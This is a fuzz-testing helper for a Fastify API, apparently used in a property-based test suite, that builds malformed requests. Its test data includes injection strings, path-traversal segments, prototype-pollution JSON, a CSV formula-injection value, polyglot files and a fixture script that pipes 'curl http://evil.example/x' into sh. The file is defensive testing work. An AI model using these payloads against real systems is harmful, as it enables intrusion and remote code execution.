/**
 * Generated malformed requests for any operation of the API (proof-fuzz.test.ts, and the stress
 * suite's fuzz-all at 1,000 per operation). For each operation the generator picks among the kinds
 * of bad request that apply to it:
 *
 *   body         a JSON body the route's own zod schema refuses (wrong types, missing fields, huge
 *                strings, any Unicode, NUL bytes, prototype keys, fields a client must never set),
 *                sometimes with hostile headers (bogus Content-Encoding, X-Forwarded-For, Host)
 *   brokenJson   JSON that does not parse, prototype poisoning
 *   contentType  a body in a content type the route does not take
 *   oversize     a body past the route's limit
 *   method       a method the path does not have
 *   auth         no token, a malformed, altered or made-up one (routes that need a session)
 *   query        generated query strings, parsed and raw (a GET that writes only gets invalid ones)
 *   params       hostile path segments (traversal, encodings, NUL, very long)
 *   multipart    hostile forms and files: SVG, HTML, executables, polyglots, random bytes, broken framing
 *   csv          arbitrary CSV text
 *   tus          hostile tus headers and bodies: lengths, offsets, metadata, method overrides
 *
 * Every case carries whether it must be refused (`mustFail`); a read that happens to be valid may
 * succeed. `checkAnswer` holds what every answer must be: never a 5xx, the envelope on /v1.
 */
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import type { z } from 'zod';
import { limits } from '@qgw/contracts';
import { checkImage } from '../../src/modules/files/image-check.js';
import { detectContentFile } from '../../src/modules/content/content-files.js';
import type { Entry, Input } from './proof-catalog.js';
import type { Method, Operation } from './proof-route-registry.js';
import * as fx from './media-fixtures.js';

export type Kind =
  | 'body' | 'brokenJson' | 'contentType' | 'oversize' | 'method' | 'auth' | 'query' | 'params' | 'multipart' | 'csv' | 'tus';

export interface FuzzCase {
  kind: Kind;
  method: Method;
  url: string;
  headers: Record<string, string>;
  payload?: string | Buffer;
  /** a request that must not succeed (false only for reads that may happen to be valid) */
  mustFail: boolean;
}

export interface FuzzTarget {
  op: Operation;
  entry: Entry;
  input: Input;
  /** the caller who gets furthest into this operation (undefined: a visitor) */
  token: string | undefined;
  /** every method routed on this operation's path */
  pathMethods: readonly Method[];
  /** the body limit that applies to this route */
  bodyLimit: number;
  /** a real upload of the caller (tus HEAD/PATCH probe it with bad headers, never validly) */
  ownUploadId?: string;
}

// ---- values ---------------------------------------------------------------------------------------

/** Replaces lone surrogates (a URL cannot carry them) with U+FFFD. */
export const wellFormed = (s: string): string => s.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');

const hostileStrings = [
  '', ' ', 'null', 'undefined', 'true', '0', '-1', '1e309', 'NaN', '<script>alert(1)</script>', "' or 1=1 --", '%', '_', '\\',
  'a\u0000b', '\u0000', '\u202eevil', '\ufeff', '😀'.repeat(300), '𠜎'.repeat(100), 'x'.repeat(5000), '13800000000',
  '11010519491231002X', '../../etc/passwd', 'javascript:alert(1)', '{{7*7}}', '${7*7}', '__proto__', 'AAAAAAAAAAAAAAAAAAAAAAAA',
  '2024-02-30T25:61:61Z', '138****1234', 'admin', 'reviewer', 'idNumber', 'approve', 'csv', 'xlsx', 'person', 'membership',
];

export const text: fc.Arbitrary<string> = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.constantFrom(...hostileStrings),
);

const scalar: fc.Arbitrary<unknown> = fc.oneof(
  text,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constantFrom(Number.MAX_SAFE_INTEGER, -0, 1e308, 2 ** 31, -(2 ** 53)),
);

export const value: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: scalar },
  { weight: 1, arbitrary: fc.array(scalar, { maxLength: 8 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.string({ maxLength: 8 }), scalar, { maxKeys: 4 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** The field names of an object schema, also through optional/default/pipe/refinement wrappers. */
export function fieldsOf(schema: z.ZodType | undefined): string[] {
  let s = schema as unknown as { shape?: Record<string, unknown>; def?: Record<string, unknown> } | undefined;
  for (let i = 0; s && i < 6; i++) {
    if (s.shape) return Object.keys(s.shape);
    const d = s.def ?? {};
    s = (d.innerType ?? d.in ?? d.schema) as typeof s;
  }
  return [];
}

const forbiddenFields = ['__proto__', 'constructor', 'prototype', 'roles', 'role', 'status', 'userId', 'user_id', 'ownerId', 'id', 'version', 'score', 'total', 'published_at', 'updated_by'];

const bodyValue = (keys: string[]): fc.Arbitrary<unknown> =>
  fc.oneof(
    { weight: 3, arbitrary: keys.length ? fc.record(Object.fromEntries(keys.map((k) => [k, value])), { requiredKeys: [] }) : fc.constant({}) },
    { weight: 2, arbitrary: fc.dictionary(fc.constantFrom(...keys, ...forbiddenFields), value, { maxKeys: 8 }) },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
    { weight: 1, arbitrary: fc.constantFrom<unknown>([], null, 0, '', 'str', true, [{}], { '': '' }) },
  );

const hostileHeaders: fc.Arbitrary<Record<string, string>> = fc.record(
  {
    'content-encoding': fc.constantFrom('gzip', 'deflate', 'br', 'identity', 'x-unknown'),
    'x-forwarded-for': fc.constantFrom('1.2.3.4', '::1, 127.0.0.1', 'garbage', ''),
    host: fc.constantFrom('evil.example', 'localhost:0', '[::1]', 'a'.repeat(300)),
    accept: fc.constantFrom('*/*', 'text/html', 'application/xml', ''),
    'accept-encoding': fc.constantFrom('gzip', 'br;q=0', 'x'),
  },
  { requiredKeys: [] },
);

const brokenJson = fc.oneof(
  fc.constantFrom(
    '{', '{"a":', '[1,2', '{"a":1}}', '{a:1}', "{'a':1}", 'nul', 'tru', '01', '1.', '"\\u12"', '"\\x41"', '{"a":NaN}', '{"a":Infinity}',
    '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"admin":true}}}', '{"a":1,"__proto__":{"x":1}}', '\u0000', '{"a":"\u0000"',
    '['.repeat(5000), `${'['.repeat(30000)}${']'.repeat(30000)}`, `{"a":${'['.repeat(20000)}"\u0000"${']'.repeat(20000)}}`,
  ),
  fc.string({ maxLength: 60 }).filter((s) => {
    try {
      JSON.parse(s);
      return false;
    } catch {
      return true;
    }
  }),
);

/** Content types no route of the JSON kind parses (415), and text/plain (a string, which no object schema takes). */
const foreignTypes = [
  'application/xml', 'text/html', 'application/x-www-form-urlencoded', 'application/octet-stream', 'application/json-patch+json',
  'image/png', 'text/csv', 'a/b', 'application/x-msdownload', 'application/javascript',
];

// ---- multipart ------------------------------------------------------------------------------------

const elf = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56), Buffer.from('/lib64/ld-linux-x86-64.so.2\0')]);
const script = () => Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const gifHtml = () => Buffer.concat([Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00', 'latin1'), Buffer.from('<html><script>alert(1)</script></html>')]);
const pngZip = () => fx.png({ trailing: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(26), Buffer.from('evil.html<script>')]) });

/** Hostile files: SVG, HTML, executables, polyglots — and random bytes. */
export const hostileFiles: Record<string, () => Buffer> = {
  svg: fx.svg,
  html: fx.html,
  exe: fx.exe,
  elf,
  script,
  gifHtml,
  pngZip,
  pngHtmlChunk: fx.pngHtmlPolyglot,
  pngAppendedHtml: fx.pngAppendedHtml,
  jpegScriptComment: fx.jpegScriptComment,
  jpegAppendedHtml: () => fx.jpeg({ trailing: fx.html() }),
  jpegAppendedJs: () => fx.jpeg({ trailing: Buffer.from('<script src="//evil.example/x.js"></script>') }),
  webpSvg: fx.webpSvgPolyglot,
  mp4Html: () => Buffer.concat([fx.isoVideo(200), fx.html()]),
  empty: () => Buffer.alloc(0),
};

const fileContent = fc.oneof(
  fc.constantFrom(...Object.values(hostileFiles)).map((make) => make()),
  fc.uint8Array({ maxLength: 400 }).map((b) => Buffer.from(b)),
);

const partSpec = fc.record({
  name: fc.constantFrom('file', 'file', 'avatar', 'purpose', 'x', '', 'file"; filename="a.png'),
  filename: fc.option(fc.constantFrom('a.png', 'a.jpg', 'a.webp', 'a.mp4', 'x.svg', 'x.html', 'run.sh', 'a.exe', '../../x.png', '', '😀.png', 'a.txt', 'a.pdf'), { nil: undefined }),
  type: fc.option(fc.constantFrom('image/png', 'image/jpeg', 'image/webp', 'image/svg+xml', 'text/html', 'application/octet-stream', 'video/mp4', 'application/x-msdownload', 'text/plain', 'application/pdf', ''), { nil: undefined }),
  content: fileContent,
});

type Part = { name: string; filename: string | undefined; type: string | undefined; content: Buffer };

function multipartPayload(parts: Part[], boundary: string, framing: 'ok' | 'noClose' | 'truncated' | 'wrongBoundary'): Buffer {
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const disposition = `form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}`;
    chunks.push(Buffer.from(`--${framing === 'wrongBoundary' ? 'other' : boundary}\r\nContent-Disposition: ${disposition}\r\n${p.type !== undefined ? `Content-Type: ${p.type}\r\n` : ''}\r\n`, 'utf8'), p.content, Buffer.from('\r\n'));
  }
  if (framing !== 'noClose') chunks.push(Buffer.from(`--${boundary}--\r\n`));
  const all = Buffer.concat(chunks);
  return framing === 'truncated' ? all.subarray(0, Math.floor(all.length / 2)) : all;
}

// ---- tus ------------------------------------------------------------------------------------------

const b64 = (s: string) => Buffer.from(s).toString('base64');
const videoTypes: readonly string[] = limits.video.mimeTypes;

const tusHeaders = fc.record(
  {
    'tus-resumable': fc.constantFrom('1.0.0', '1.0.0', '0.2.2', '', 'x'),
    'upload-length': fc.oneof(fc.constantFrom('-1', 'abc', '1e3', '0x10', ' 10', '', String(limits.video.maxBytes + 1), '99999999999999999999', '0', '100'), fc.integer({ min: -5, max: 2 * limits.video.maxBytes }).map(String)),
    'upload-metadata': fc.oneof(
      fc.string({ maxLength: 40 }),
      fc.constantFrom(`filetype ${b64('text/html')}`, `filetype ${b64('image/svg+xml')}`, `filetype ${b64('application/x-msdownload')}`, `filetype ${b64('video/mp4')}`,
        `filetype ${b64('video/mp4')},filetype ${b64('text/html')}`, 'filetype !!!', 'filetype', ' ', `filename ${b64('../../x')}`, `filetype ${b64('video/mp4\u0000')}`),
    ),
    'upload-defer-length': fc.constantFrom('1', '0', 'x'),
    'upload-concat': fc.constantFrom('partial', 'final;/v1/uploads/video/x', 'final;'),
    'upload-offset': fc.oneof(fc.constantFrom('0', '-1', 'x', '', '00', '1e2', '99999999999999999999'), fc.integer({ min: -10, max: 10_000 }).map(String)),
    'content-type': fc.constantFrom('application/offset+octet-stream', 'application/json', 'text/plain', 'application/octet-stream', 'multipart/form-data'),
    'x-http-method-override': fc.constantFrom('DELETE', 'PATCH', 'HEAD', 'GET', 'POST', 'x'),
    'upload-checksum': fc.constantFrom('sha1 x', 'md5 AAAA', ''),
  },
  { requiredKeys: [] },
);

/** True when a tus creation with these headers could be accepted (such cases are not sent). */
function mayCreate(h: Record<string, string>): boolean {
  if (h['tus-resumable'] !== '1.0.0') return false;
  const len = h['upload-length'];
  const lengthOk = len !== undefined ? /^\s*\d+\s*$/.test(len) && Number(len) <= limits.video.maxBytes : h['upload-defer-length'] !== undefined;
  if (!lengthOk) return false;
  const meta = h['upload-metadata'] ?? '';
  return meta.split(',').some((pair) => {
    const [k, v] = pair.trim().split(' ');
    if (k !== 'filetype' || !v) return false;
    const decoded = Buffer.from(v, 'base64').toString('utf8').toLowerCase();
    return videoTypes.some((t) => decoded.startsWith(t));
  }) || h['x-http-method-override'] !== undefined;
}

/** True when a PATCH with these headers could append to a real upload (not sent). */
const mayAppend = (h: Record<string, string>) =>
  h['tus-resumable'] === '1.0.0' && (h['content-type'] ?? '').startsWith('application/offset+octet-stream') && (h['upload-offset'] === undefined || Number(h['upload-offset']) === 0);

// ---- the generator --------------------------------------------------------------------------------

const ALL_METHODS: readonly Method[] = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD'];

const queryString = (q: Record<string, string | string[]>) => {
  const parts: string[] = [];
  for (const [k, v] of Object.entries(q)) {
    for (const one of Array.isArray(v) ? v : [v]) parts.push(`${encodeURIComponent(wellFormed(k))}=${encodeURIComponent(wellFormed(one))}`);
  }
  return parts.length ? `?${parts.join('&')}` : '';
};

const rawQueries = ['?%', '?%zz=1', '?a=%E0%A4%A', '?a[b]=1&a[c]=2', '?__proto__[x]=1', '?constructor[prototype][x]=1', `?${'a=1&'.repeat(1500)}`, `?q=${'x'.repeat(6000)}`, '?&&&=&=', '?id=%00', '?id=..%2F..%2Fapp.db'];

const hostileSegments = fc.oneof(
  fc.constantFrom('..', '.', '%2e%2e', '..%2F..%2Fapp.db', '%2e%2e%2f%2e%2e%2fapp.db', '%00', '%', 'a%2Fb', `${'x'.repeat(3000)}`, '%C0%AE%C0%AE', 'index.html', 'AAAAAAAAAAAAAAAAAAAAAAAA',
    'abcdef0123456789abcdef0123456789.png', '..\\..\\app.db', 'app.db', 'file-url.key', 'secret.key'),
  text.map((s) => encodeURIComponent(wellFormed(s))),
);

/** The generated malformed requests for one operation. */
export function casesFor(target: FuzzTarget): fc.Arbitrary<FuzzCase> {
  const { op, entry, input } = target;
  const auth: Record<string, string> = target.token ? { authorization: target.token } : {};
  const needsSession = entry.access !== 'public';
  const v1 = op.url.startsWith('/v1/');
  const hasParams = /[:*]/.test(op.url);
  const paramUrl = (segment: string) => op.url.replace(/:\w+|\*/g, segment);
  const plainUrl = hasParams ? paramUrl('AAAAAAAAAAAAAAAAAAAAAAAA') : op.url;
  const acceptsNoBody = op.body ? op.body.safeParse(undefined).success : true;
  const kinds: fc.Arbitrary<FuzzCase>[] = [];
  const add = (arb: fc.Arbitrary<FuzzCase | null>) => kinds.push(arb.filter((c): c is FuzzCase => c !== null));

  // a method the path does not have
  const wrong = ALL_METHODS.filter((m) => !target.pathMethods.includes(m) && !(m === 'HEAD' && target.pathMethods.includes('GET')));
  if (wrong.length) {
    add(fc.record({ m: fc.constantFrom(...wrong), body: fc.option(bodyValue([]), { nil: undefined }) }).map(({ m, body }) => ({
      kind: 'method', method: m, url: plainUrl, headers: { ...auth, ...(body !== undefined && m !== 'GET' && m !== 'HEAD' ? { 'content-type': 'application/json' } : {}) },
      ...(body !== undefined && m !== 'GET' && m !== 'HEAD' ? { payload: JSON.stringify(body) } : {}), mustFail: v1,
    })));
  }

  // no session, or a bad one
  if (needsSession) {
    const token = fc.oneof(
      fc.constantFrom<string | undefined>(undefined, '', 'null', 'undefined', 'Bearer', 'Bearer ', 'Basic dXNlcjpwYXNz', 'x'.repeat(9000), 'Bearer Bearer x', '\t'),
      fc.stringMatching(/^[A-Za-z0-9_-]{43}$/),
      fc.string({ maxLength: 80 }),
      fc.nat().map((i) => {
        const t = target.token ?? 'x';
        const at = i % t.length;
        const c = t[at] === 'A' ? 'B' : 'A';
        return `${t.slice(0, at)}${c}${t.slice(at + 1)}`;
      }),
      fc.constantFrom(`${target.token ?? ''}x`, (target.token ?? '').slice(0, -1), `Bearer ${(target.token ?? '').toUpperCase()}`),
    );
    add(token.map((tk) => ({
      kind: 'auth', method: op.method, url: plainUrl,
      headers: { ...(tk !== undefined ? { authorization: tk } : {}), ...(op.method === 'POST' && input === 'json' ? { 'content-type': 'application/json' } : {}) },
      ...(op.method === 'POST' && input === 'json' ? { payload: '{}' } : {}), mustFail: true,
    })));
  }

  if (input === 'json' && op.body) {
    const schema = op.body;
    const keys = fieldsOf(schema);
    add(fc.record({ body: bodyValue(keys), extra: fc.option(hostileHeaders, { nil: undefined }) }).map(({ body, extra }) =>
      // judged as the server will see it: after a JSON round trip
      parsesAsValid(schema, JSON.parse(JSON.stringify(body) ?? 'null')) ? null : { kind: 'body', method: op.method, url: plainUrl, headers: { ...extra, ...auth, 'content-type': 'application/json' }, payload: JSON.stringify(body), mustFail: true },
    ));
    add(fc.record({ payload: brokenJson, type: fc.constantFrom('application/json', 'application/json; charset=utf-8') }).map(({ payload, type }) => ({
      kind: 'brokenJson', method: op.method, url: plainUrl, headers: { ...auth, 'content-type': type }, payload, mustFail: true,
    })));
    const types = acceptsNoBody ? foreignTypes : [...foreignTypes, 'text/plain', 'multipart/form-data', 'multipart/form-data; boundary=x'];
    add(fc.record({ type: fc.constantFrom(...types), body: fc.oneof(bodyValue(keys).map((b) => JSON.stringify(b) ?? 'null'), fc.string({ minLength: 1, maxLength: 80 })) }).map(({ type, body }) => ({
      kind: 'contentType', method: op.method, url: plainUrl, headers: { ...auth, 'content-type': type }, payload: body.length ? body : 'x', mustFail: true,
    })));
    add(fc.integer({ min: 1, max: 4096 }).map((extra) => ({
      kind: 'oversize', method: op.method, url: plainUrl, headers: { ...auth, 'content-type': 'application/json' },
      payload: JSON.stringify({ [keys[0] ?? 'x']: 'x'.repeat(target.bodyLimit + extra) }), mustFail: true,
    })));
  }

  if (op.method === 'GET' || op.method === 'HEAD' || op.query) {
    const schema = op.query;
    const keys = [...fieldsOf(schema), '__proto__', 'constructor', 'x', 'platform', 'rent_mode', 'exp', 'sig'];
    const q = fc.dictionary(fc.constantFrom(...keys), fc.oneof(text, fc.array(text, { minLength: 2, maxLength: 3 })), { maxKeys: 6 });
    // a GET that writes gets only queries its schema refuses; other methods send no body, so all are refused
    const writingGet = op.method === 'GET' && entry.writes === true;
    const mustFail = v1 && (op.method !== 'GET' || writingGet);
    const alwaysValid = !schema || (fieldsOf(schema).length === 0 && schema.safeParse({ x: 'y' }).success);
    if (!(writingGet && alwaysValid)) {
      add(q.map((query) => {
        if (writingGet && schema?.safeParse(query).success) return null;
        return { kind: 'query', method: op.method, url: `${plainUrl}${queryString(query)}`, headers: { ...auth, ...(input === 'tus' ? { 'tus-resumable': '1.0.0' } : {}) }, mustFail };
      }));
    }
    if (!writingGet) {
      add(fc.constantFrom(...rawQueries).map((rq) => ({ kind: 'query', method: op.method, url: `${plainUrl}${rq}`, headers: auth, mustFail })));
    }
  }

  if (hasParams) {
    add(hostileSegments.map((seg) => ({
      kind: 'params', method: op.method, url: paramUrl(seg), headers: { ...auth, ...(input === 'tus' ? { 'tus-resumable': '1.0.0' } : {}) },
      // a public file route may happen to name a real file; everything else must be refused
      mustFail: entry.access !== 'public' || v1,
    })));
  }

  if (input === 'multipart') {
    const isContent = op.url.includes('/content/admin/');
    const accepts = (p: Part) =>
      p.name === 'file' && (isContent ? detectContentFile(p.content, p.type ?? '', p.filename) !== null : checkImage(p.content, p.type).ok);
    add(fc.record({
      parts: fc.array(partSpec, { minLength: 0, maxLength: 3 }),
      framing: fc.constantFrom('ok', 'ok', 'ok', 'noClose', 'truncated', 'wrongBoundary' as const),
      boundary: fc.constantFrom('proofboundary', 'x', '----WebKitFormBoundary7MA4YWxkTrZu0gW'),
      header: fc.constantFrom('ok', 'ok', 'ok', 'noBoundary', 'quoted', 'json'),
      purpose: fc.constantFrom('photo', 'work', 'license', 'x', ''),
    }).map(({ parts, framing, boundary, header, purpose }) => {
      if (parts.some(accepts) && framing === 'ok' && header !== 'noBoundary' && header !== 'json') return null;
      const type = header === 'noBoundary' ? 'multipart/form-data' : header === 'quoted' ? `multipart/form-data; boundary="${boundary}"` : header === 'json' ? 'application/json' : `multipart/form-data; boundary=${boundary}`;
      return { kind: 'multipart', method: op.method, url: op.url.includes('uploadImage') ? `${op.url}?purpose=${purpose}` : op.url,
        headers: { ...auth, 'content-type': type }, payload: multipartPayload(parts, boundary, framing), mustFail: true };
    }));
  }

  if (input === 'csv') {
    const line = fc.array(fc.oneof(fc.string({ maxLength: 24 }), fc.constantFrom('"', '""', '13800000000', 'a\u0000b', '=cmd|/c calc', '\ufeff', 'AAAAAAAAAAAAAAAAAAAAAAAA')), { maxLength: 4 }).map((f) => f.join(','));
    add(fc.record({ header: fc.boolean(), lines: fc.array(line, { maxLength: 8 }), type: fc.constantFrom('text/csv', 'text/csv; charset=utf-8') }).map(({ header, lines, type }) => ({
      kind: 'csv', method: op.method, url: op.url, headers: { ...auth, 'content-type': type },
      payload: [...(header ? ['application_id,reviewer_mobile'] : []), ...lines].join('\n') || ',', mustFail: false,
    })));
    add(fc.uint8Array({ minLength: 1, maxLength: 200 }).map((b) => ({
      kind: 'csv', method: op.method, url: op.url, headers: { ...auth, 'content-type': 'text/csv' }, payload: Buffer.from(b), mustFail: false,
    })));
  }

  if (input === 'tus') {
    const realId = target.ownUploadId;
    add(fc.record({ h: tusHeaders, body: fc.option(fc.uint8Array({ maxLength: 300 }), { nil: undefined }), real: fc.boolean() }).map(({ h, body, real }) => {
      if (op.method === 'POST' && mayCreate(h)) return null;
      const useReal = real && realId !== undefined && hasParams && op.method !== 'DELETE';
      if (useReal && op.method === 'PATCH' && mayAppend(h)) return null;
      return {
        kind: 'tus', method: op.method, url: hasParams ? paramUrl(useReal ? (realId as string) : 'AAAAAAAAAAAAAAAAAAAAAAAA') : op.url,
        headers: { ...auth, ...h }, ...(body && op.method !== 'HEAD' ? { payload: Buffer.from(body) } : {}),
        // a HEAD on one's own upload only reads its offset
        mustFail: !(useReal && op.method === 'HEAD'),
      };
    }));
  }

  if (kinds.length === 0) throw new Error(`no fuzz kinds for ${op.key}`);
  return fc.oneof(...kinds);
}

// ---- the answer ---------------------------------------------------------------------------------

/** What is wrong with an answer to a generated request, or null. */
export function checkAnswer(c: FuzzCase, res: LightMyRequestResponse): string | null {
  if (res.statusCode >= 500) return `HTTP ${res.statusCode}: ${res.body.slice(0, 300)}`;
  const v1 = c.url.startsWith('/v1/');
  const type = String(res.headers['content-type'] ?? '');
  const hasBody = c.method !== 'HEAD' && res.rawPayload.length > 0;
  type Envelope = { success?: unknown; code?: unknown; message?: unknown };
  let envelope = null as Envelope | null;
  // (tus writes its refusals, the envelope, without a JSON content type)
  if (hasBody && (type.includes('json') || (c.url.startsWith('/v1/uploads/') && res.body.startsWith('{')))) {
    try {
      envelope = JSON.parse(res.body) as Envelope;
    } catch {
      return `HTTP ${res.statusCode}: a JSON answer that does not parse`;
    }
  }
  if (v1 && hasBody && res.statusCode >= 400) {
    if (!envelope || envelope.success !== false || typeof envelope.code !== 'number' || typeof envelope.message !== 'string') {
      return `HTTP ${res.statusCode}: not the failure envelope: ${res.body.slice(0, 200)}`;
    }
  }
  if (envelope && v1 && (typeof envelope.success !== 'boolean' || typeof envelope.code !== 'number')) return `not the envelope: ${res.body.slice(0, 200)}`;
  if (envelope && /at .+\.(ts|js):\d+/.test(res.body)) return 'a stack trace in the answer';
  const succeeded = res.statusCode >= 200 && res.statusCode < 300 && (envelope ? envelope.success === true : true);
  if (c.mustFail && succeeded) return `HTTP ${res.statusCode}: a malformed request succeeded: ${res.body.slice(0, 200)}`;
  return null;
}

/** Sends a case through app.inject. */
export const injectCase = (app: { inject: (o: object) => Promise<LightMyRequestResponse> }, c: FuzzCase) =>
  app.inject({ method: c.method, url: c.url, headers: c.headers, ...(c.payload !== undefined ? { payload: c.payload } : {}) });

/** A short description of a case for failure messages (no huge payloads). */
export const describeCase = (c: FuzzCase) =>
  JSON.stringify({ ...c, url: c.url.slice(0, 200), payload: c.payload === undefined ? undefined : String(c.payload).slice(0, 200) });

/** Whether the schema accepts `value`; a value zod's own checks throw on (a `length` key holding an object) is not valid. */
function parsesAsValid(schema: { safeParse(v: unknown): { success: boolean } }, value: unknown): boolean {
  try {
    return schema.safeParse(value).success;
  } catch {
    return false;
  }
}
